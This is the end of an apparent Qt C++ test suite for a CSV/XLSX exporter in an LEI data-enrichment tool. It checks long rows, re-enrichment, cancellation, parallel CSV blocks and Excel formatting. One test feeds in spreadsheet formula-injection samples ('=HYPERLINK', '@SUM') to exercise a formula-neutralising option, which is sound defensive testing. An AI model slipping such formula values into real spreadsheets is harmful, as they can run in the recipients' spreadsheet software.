    QCOMPARE(back->cell(0, 4), QStringLiteral("Sp\u00f3\u0142ka \u20ac"));

    // Text that fits stays Windows-1252, without a notice.
    notices.clear();
    const auto fits = legalNameFor(QStringLiteral("BFXS5XCH7N0Y05NIXW11"), QStringLiteral("Caf\u00e9 \u20ac"));
    results = enrich(file);
    QVERIFY(results);
    QVERIFY2(Exporter::writeCsv(*file, results.get(), out, &error, {}, options), qPrintable(error));
    QVERIFY(read(out).startsWith("caf\xe9,"));
    QVERIFY(read(out).contains(",Caf\xe9 \x80,"));
    QVERIFY(notices.isEmpty());
}

// The text or number of an XLSX cell ("E2") as libxlsxwriter writes it in constant-memory mode.
static QString xlsxCell(const QByteArray &sheet, const QString &ref)
{
    const QRegularExpression cell(QStringLiteral("<c r=\"%1\"[^>]*>(?:<is>)?<[tv][^>]*>([^<]*)<").arg(ref));
    const auto m = cell.match(QString::fromUtf8(sheet));
    return m.hasMatch() ? m.captured(1) : QString();
}

void ExporterTest::longRowsKeepTheNewColumnsUnderTheirHeadings_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::newRow("csv") << QStringLiteral("csv");
    QTest::newRow("xlsx") << QStringLiteral("xlsx");
}

void ExporterTest::longRowsKeepTheNewColumnsUnderTheirHeadings()
{
    // A row with more fields than the header: the new columns stay at the header's width,
    // the extra fields follow them, and the row is flagged.
    QFETCH(QString, suffix);
    QString error;
    auto file = CsvFile::load(write("id,notional,rate,lei\n1,763000,0.0070956,XKZZ2JZF41MRHTR1V493,extra1,extra2\n"
                                    "2,1,1,XKZZ2JZF41MRHTR1V493\n3,1,1,XKZZ2JZF41MRHTR1V493,\"x,y\"\n",
                                    QStringLiteral("long.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    QCOMPARE(results->warnings(0), QStringList{RowWarning::kExtraFields});
    QCOMPARE(results->warnings(1), QStringList{});
    QCOMPARE(results->warnings(2), QStringList{RowWarning::kExtraFields});
    QCOMPARE(results->warningRowCount(), 2);
    QCOMPARE(results->countOfWarning(RowWarning::kExtraFields), 2);
    QCOMPARE(results->warningRows(), (std::vector<qint64>{0, 2}));
    QCOMPARE(results->countOf(RowStatus::Ok), 3); // a warning is not a failure
    const QString out = m_dir.filePath(QStringLiteral("long.out.") + suffix);
    QVERIFY2(Exporter::write(*file, results.get(), out, &error), qPrintable(error));
    if (suffix == u"csv") {
        const QList<QByteArray> lines = read(out).split('\n');
        QCOMPARE(lines[0], QByteArray("id,notional,rate,lei,legalName,bic,country,transaction_costs,enrichment_status"));
        QCOMPARE(lines[1], QByteArray("1,763000,0.0070956,XKZZ2JZF41MRHTR1V493,CITIGROUP GLOBAL MARKETS LIMITED,SBILGB2LXXX,GB,-757586.0572,ok,extra1,extra2"));
        QCOMPARE(lines[2], QByteArray("2,1,1,XKZZ2JZF41MRHTR1V493,CITIGROUP GLOBAL MARKETS LIMITED,SBILGB2LXXX,GB,0.0,ok"));
        QCOMPARE(lines[3], QByteArray("3,1,1,XKZZ2JZF41MRHTR1V493,CITIGROUP GLOBAL MARKETS LIMITED,SBILGB2LXXX,GB,0.0,ok,\"x,y\""));
    } else {
        const auto zip = readZip(out, &error);
        const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
        QVERIFY2(!sheet.isEmpty(), qPrintable(error));
        QCOMPARE(xlsxCell(sheet, QStringLiteral("E1")), QStringLiteral("legalName"));
        QCOMPARE(xlsxCell(sheet, QStringLiteral("E2")), QStringLiteral("CITIGROUP GLOBAL MARKETS LIMITED"));
        QCOMPARE(xlsxCell(sheet, QStringLiteral("I2")), QStringLiteral("ok"));
        QCOMPARE(xlsxCell(sheet, QStringLiteral("J2")), QStringLiteral("extra1"));
        QCOMPARE(xlsxCell(sheet, QStringLiteral("K2")), QStringLiteral("extra2"));
        QCOMPARE(xlsxCell(sheet, QStringLiteral("I3")), QStringLiteral("ok"));
        QCOMPARE(xlsxCell(sheet, QStringLiteral("J3")), QString());
        QCOMPARE(xlsxCell(sheet, QStringLiteral("J4")), QStringLiteral("x,y"));
    }
}

void ExporterTest::reEnrichingReplacesThePreviousColumns_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::newRow("csv") << QStringLiteral("csv");
    QTest::newRow("xlsx") << QStringLiteral("xlsx");
}

void ExporterTest::reEnrichingReplacesThePreviousColumns()
{
    // The sample's expected output fed in again gives the same output, not doubled columns.
    QFETCH(QString, suffix);
    QString error;
    auto original = CsvFile::load(QStringLiteral(LEI_RESOURCES_DIR "/sample_transactions.csv"), {}, &error);
    auto again = CsvFile::load(QStringLiteral(LEI_TEST_DATA_DIR "/sample_transactions.expected.csv"), {}, &error);
    QVERIFY2(original && again, qPrintable(error));
    const QString first = m_dir.filePath(QStringLiteral("first.") + suffix);
    const QString second = m_dir.filePath(QStringLiteral("second.") + suffix);
    auto originalResults = enrich(original);
    auto againResults = enrich(again);
    QVERIFY(originalResults && againResults);
    QVERIFY2(Exporter::write(*original, originalResults.get(), first, &error), qPrintable(error));
    QVERIFY2(Exporter::write(*again, againResults.get(), second, &error), qPrintable(error));
    if (suffix == u"csv") {
        QCOMPARE(read(second), read(QStringLiteral(LEI_TEST_DATA_DIR "/sample_transactions.expected.csv")));
    } else {
        const QByteArray a = readZip(first, &error).value(QStringLiteral("xl/worksheets/sheet1.xml"));
        const QByteArray b = readZip(second, &error).value(QStringLiteral("xl/worksheets/sheet1.xml"));
        QVERIFY(!a.isEmpty());
        QCOMPARE(b, a);
    }
}

void ExporterTest::inputChangedDuringExportWritesNothing_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::newRow("csv") << QStringLiteral("csv");
    QTest::newRow("xlsx") << QStringLiteral("xlsx");
}

void ExporterTest::inputChangedDuringExportWritesNothing()
{
    QFETCH(QString, suffix);
    QByteArray bytes("id,lei\n");
    for (int i = 0; i < 5000; ++i)
        bytes += QByteArray::number(i) + ",XKZZ2JZF41MRHTR1V493\n";
    const QString name = QStringLiteral("changing-") + suffix + QStringLiteral(".csv");
    QString error;
    auto file = CsvFile::load(write(bytes, name), {}, &error);
    QVERIFY2(file, qPrintable(error));
    write("id,lei\n1,x\n", name); // cut short in place, as `cp new.csv same.csv` does
    const QString out = m_dir.filePath(QStringLiteral("changing.out.") + suffix);
    QVERIFY(!Exporter::write(*file, nullptr, out, &error));
    QVERIFY2(error.contains(QStringLiteral("changed while it was being read")) && error.contains(name), qPrintable(error));
    QVERIFY(!QFileInfo::exists(out));
}

void ExporterTest::csvBlocksGiveTheSameBytes_data()
{
    QTest::addColumn<int>("rows");
    QTest::addColumn<bool>("neutralise");
    QTest::addColumn<bool>("reversed");
    QTest::newRow("1 row") << 1 << false << false;
    QTest::newRow("2 rows") << 2 << false << false;
    QTest::newRow("7 rows") << 7 << false << false;
    QTest::newRow("101 rows") << 101 << false << false;
    QTest::newRow("101 rows, formulas neutralised") << 101 << true << false;
    QTest::newRow("101 rows as shown, reversed") << 101 << false << true;
}

void ExporterTest::csvBlocksGiveTheSameBytes()
{
    // The CSV export formats blocks of rows on several threads and writes them in order: any
    // block size gives the bytes of one block, whatever the rows hold (quotes, line breaks,
    // extra and missing fields, formulas, every status).
    QFETCH(int, rows);
    QFETCH(bool, neutralise);
    QFETCH(bool, reversed);
    const QByteArray kinds[] = {
        "plain,763000,0.0070956,XKZZ2JZF41MRHTR1V493",
        "\"quoted, \"\"with\"\" a\nline break\",1.5,2,BFXS5XCH7N0Y05NIXW11",
        "long,1,1,XKZZ2JZF41MRHTR1V493,extra,\"more \"\"extra\"\"\"",
        "short,1,XKZZ2JZF41MRHTR1V493",
        "=HYPERLINK(\"x\"),-2.5,+1e5,XKZZ2JZF41MRHTR1V493",
        "zero rate,1,0,BFXS5XCH7N0Y05NIXW11",
        "bad number,abc,1,XKZZ2JZF41MRHTR1V493",
        "bad lei,1,1,NOTALEI",
        "@SUM(A1),,,",
    };
    QByteArray input("id,notional,rate,lei\r\n");
    for (int i = 0; i < rows; ++i)
        input += kinds[i % std::size(kinds)] + "\r\n";
    QString error;
    auto file = CsvFile::load(write(input, QStringLiteral("blocks-%1.csv").arg(rows)), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    std::vector<qint32> order;
    for (qint32 i = rows - 1; i >= 0; --i)
        order.push_back(i);
    Exporter::Options options;
    options.neutraliseInputFormulas = neutralise;
    options.rows = reversed ? &order : nullptr;
    options.blockRows = 1 << 30; // one block
    const QString one = m_dir.filePath(QStringLiteral("blocks-out-one.csv"));
    QVERIFY2(Exporter::writeCsv(*file, results.get(), one, &error, {}, options), qPrintable(error));
    const QByteArray expected = read(one);
    QCOMPARE(expected.count("\r\n"), qsizetype(rows + 1)); // the quoted line break is a bare \n
    for (qint64 blockRows : {1, 2, 3, 64}) {
        options.blockRows = blockRows;
        std::vector<qint64> reported;
        Exporter::Progress progress;
        progress.progress = [&reported](qint64 done, qint64) { reported.push_back(done); };
        const QString out = m_dir.filePath(QStringLiteral("blocks-out-%1.csv").arg(blockRows));
        QVERIFY2(Exporter::writeCsv(*file, results.get(), out, &error, progress, options), qPrintable(error));
        QCOMPARE(read(out), expected);
        QVERIFY(std::is_sorted(reported.begin(), reported.end()));
        QCOMPARE(reported.back(), qint64(rows));
    }
}

void ExporterTest::cancelledExportWritesNothing_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::newRow("csv") << QStringLiteral("csv");
    QTest::newRow("xlsx") << QStringLiteral("xlsx");
}

void ExporterTest::cancelledExportWritesNothing()
{
    // The cancel flag (the window's Cancel, the CLI's SIGINT) stops an export at its next
    // progress report: no file, no temporary file beside it, an existing file untouched.
    QFETCH(QString, suffix);
    QByteArray input("id,lei\n");
    for (int i = 0; i < 70000; ++i) // past the first progress report (64k rows)
        input += QByteArray::number(i) + ",XKZZ2JZF41MRHTR1V493\n";
    QString error;
    auto file = CsvFile::load(write(input, QStringLiteral("cancel-") + suffix + QStringLiteral(".csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    QTemporaryDir target(m_dir.filePath(QStringLiteral("cancel-XXXXXX")));
    QVERIFY(target.isValid());
    const QString out = target.filePath(QStringLiteral("out.") + suffix);
    write("old", QStringLiteral("cancel-old"));
    QVERIFY(QFile::copy(m_dir.filePath(QStringLiteral("cancel-old")), out));
    std::atomic_bool cancel{false};
    int reports = 0;
    Exporter::Progress progress;
    progress.cancel = &cancel;
    progress.progress = [&](qint64, qint64) {
        ++reports;
        cancel = true;
    };
    QVERIFY(!Exporter::write(*file, nullptr, out, &error, progress));
    QVERIFY2(error.contains(QStringLiteral("export cancelled")), qPrintable(error));
    QCOMPARE(reports, 1);
    QCOMPARE(read(out), QByteArray("old"));
    QCOMPARE(QDir(target.path()).entryList(QDir::Files | QDir::Hidden), QStringList{QStringLiteral("out.") + suffix});
}

void ExporterTest::xlsxWidthsCostFormatAndDates()
{
    // Column widths set, the cost shown with a number format, GLEIF's dates as Excel dates.
    QString error;
    auto file = CsvFile::load(write("a_rather_long_identifier_heading,notional,rate,lei\n1,763000,0.0070956,XKZZ2JZF41MRHTR1V493\n",
                                    QStringLiteral("styled.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    EnrichmentSettings s;
    s.gleif.baseUrl = m_fake.baseUrl();
    s.useCache = false;
    s.fields = {Fields::Id::LegalName, Fields::Id::NextRenewalDate, Fields::Id::DataAsOf};
    EnrichmentJob job;
    QSignalSpy finished(&job, &EnrichmentJob::finished);
    QVERIFY2(job.start(file, file->findColumn(), CostRules::defaults(), s, &error), qPrintable(error));
    QVERIFY(finished.wait(60000));
    const auto results = job.results();
    const LeiAnswer &answer = results->answerAt(0);
    const QDate renewal = QDate::fromString(answer.values.at(1), Qt::ISODate);
    const QDateTime asOf = QDateTime::fromString(answer.values.at(2), Qt::ISODate);
    QVERIFY2(renewal.isValid() && asOf.isValid(), qPrintable(answer.values.join(u'|')));
    const QString out = m_dir.filePath(QStringLiteral("styled.xlsx"));
    QVERIFY2(Exporter::writeXlsx(*file, results.get(), out, &error), qPrintable(error));
    const auto zip = readZip(out, &error);
    const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
    const QByteArray styles = zip.value(QStringLiteral("xl/styles.xml"));

    // Widths: the long heading's column is wider than the short "rate" one, within bounds.
    const auto width = [&sheet](int column) {
        const QRegularExpression col(QStringLiteral("<col min=\"%1\" max=\"%1\" width=\"([0-9.]+)\"").arg(column));
        const auto m = col.match(QString::fromUtf8(sheet));
        return m.hasMatch() ? m.captured(1).toDouble() : 0.0;
    };
    QVERIFY2(width(1) > width(3) && width(3) >= 8 && width(1) <= 50.72, sheet.left(600).constData());

    // The style index of a cell, and the number format code that style uses.
    const auto styleOf = [&sheet](const QString &ref) {
        const auto m = QRegularExpression(QStringLiteral("<c r=\"%1\" s=\"([0-9]+)\"").arg(ref)).match(QString::fromUtf8(sheet));
        return m.hasMatch() ? m.captured(1).toInt() : -1;
    };
    const auto formatOf = [&styles](int style) {
        const QString xml = QString::fromUtf8(styles);
        const qsizetype xfs = xml.indexOf(QStringLiteral("<cellXfs"));
        const QRegularExpression xf(QStringLiteral("<xf numFmtId=\"([0-9]+)\""));
        auto it = xf.globalMatch(xml.mid(xfs));
        for (int i = 0; it.hasNext(); ++i) {
            const auto m = it.next();
            if (i == style) {
                const auto fmt = QRegularExpression(QStringLiteral("<numFmt numFmtId=\"%1\" formatCode=\"([^\"]+)\"").arg(m.captured(1))).match(xml);
                return fmt.hasMatch() ? fmt.captured(1) : m.captured(1);
            }
        }
        return QString();
    };
    // Columns: 4 input, legalName (E), nextRenewalDate (F), dataAsOf (G), cost (H), status (I).
    QCOMPARE(formatOf(styleOf(QStringLiteral("H2"))), QStringLiteral("#,##0.00"));
    QCOMPARE(xlsxCell(sheet, QStringLiteral("H2")).toDouble(), results->cost(0));
    QCOMPARE(formatOf(styleOf(QStringLiteral("F2"))), QStringLiteral("yyyy-mm-dd"));
    QCOMPARE(formatOf(styleOf(QStringLiteral("G2"))), QStringLiteral("yyyy-mm-dd hh:mm:ss"));
    const QDate excelEpoch(1899, 12, 30);
    QCOMPARE(xlsxCell(sheet, QStringLiteral("F2")).toDouble(), double(excelEpoch.daysTo(renewal)));
    const double serial = xlsxCell(sheet, QStringLiteral("G2")).toDouble();
    const QDateTime utc = asOf.toUTC();
    QVERIFY(std::abs(serial - (double(excelEpoch.daysTo(utc.date())) + utc.time().msecsSinceStartOfDay() / 86400000.0)) < 1e-6);
}

QTEST_GUILESS_MAIN(ExporterTest)
#include "exporter_test.moc"
